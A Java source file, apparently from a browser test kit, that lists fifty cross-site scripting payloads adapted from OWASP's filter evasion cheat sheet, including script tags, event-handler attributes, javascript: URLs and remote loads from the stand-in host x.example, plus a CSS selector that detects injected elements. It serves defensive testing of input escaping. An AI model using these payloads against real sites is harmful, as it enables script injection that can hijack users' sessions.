package io.madang.browser.kit;

import java.util.List;
import java.util.stream.IntStream;

/**
 * What attackers write where a text is expected. What runs calls {@code pwned()}, or opens a
 * dialog.
 *
 * <p>After OWASP's XSS Filter Evasion Cheat Sheet and the HTML5 Security Cheatsheet.
 */
public final class Payloads {
  /** Fifty of them. */
  public static final List<String> ALL =
      List.of(
          "<script>pwned()</script>",
          "<ScRiPt>pwned()</sCrIpT>",
          "<script src=//x.example></script>",
          "<scr<script>ipt>pwned()</script>",
          "<script>alert(1)//",
          "</script><script>pwned()</script>",
          "</textarea><script>pwned()</script>",
          "</title><script>pwned()</script>",
          "</template><script>pwned()</script>",
          "</bdi></p></li><script>pwned()</script>",
          "--><script>pwned()</script><!--",
          "]]><script>pwned()</script>",
          "<img src=x onerror=pwned()>",
          "<img/src=x/onerror=pwned()>",
          "<img src=x onerror=\"pwned()\"",
          "\"><img src=x onerror=pwned()>",
          "'><img src=x onerror=pwned()>",
          "<image href=x onerror=pwned()>",
          "<img src=x:x onerror=alert(1)>",
          "\" onmouseover=\"pwned()\" x=\"",
          "' onfocus='pwned()' autofocus='",
          "\" autofocus onfocus=pwned() x=\"",
          "` onclick=pwned() `",
          "<svg onload=pwned()>",
          "<svg/onload=pwned()//",
          "<svg><script>pwned()</script></svg>",
          "<svg><animate onbegin=pwned() attributeName=x>",
          "<math><mi xlink:href=javascript:pwned()>",
          "<body onload=pwned()>",
          "<input autofocus onfocus=pwned()>",
          "<select autofocus onfocus=pwned()>",
          "<video><source onerror=pwned()></video>",
          "<audio src=x onerror=pwned()>",
          "<details open ontoggle=pwned()>x",
          "<marquee onstart=pwned()>x</marquee>",
          "<iframe src=javascript:pwned()>",
          "<iframe srcdoc='<script>parent.pwned()</script>'>",
          "<object data=javascript:pwned()>",
          "<embed src=javascript:pwned()>",
          "<a href=javascript:pwned()>x</a>",
          "<form action=javascript:pwned()><button>x",
          "<base href=//x.example/>",
          "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
          "<link rel=stylesheet href=//x.example/x.css>",
          "<style>@import'//x.example/x.css'</style>",
          "javascript:pwned()",
          "data:text/html,<script>pwned()</script>",
          "https://x.example/\"onmouseover=pwned()//",
          "${pwned()}{{constructor.constructor('pwned()')()}}",
          "%3Cscript%3Epwned()%3C/script%3E&lt;img src=x onerror=pwned()&gt;");

  /** What none of our pages has: as a selector. */
  static final String FOREIGN =
      "script:not([src^='/']), iframe, object, embed, base, meta[http-equiv], math, marquee, video,"
          + " audio, details, select:not([id^='person-']), style, source, image, animate, frame, frameset,"
          + " link[href*='x.example'], [src*='x.example'], a[href^='javascript:' i],"
          + " [href^='data:' i], [action^='javascript:' i], [src='x'], [src^='x:'], body body, [x],"
          + " [onerror], [onload], [onclick], [onmouseover], [onfocus], [onbegin], [ontoggle],"
          + " [onstart], [autofocus]";

  private Payloads() {}

  /** The same for a field that takes so many characters. */
  public static List<String> cutTo(int length) {
    return ALL.stream().map(text -> text.substring(0, Math.min(length, text.length()))).toList();
  }

  /** Their places in the list. */
  public static IntStream indexes() {
    return IntStream.range(0, ALL.size());
  }
}
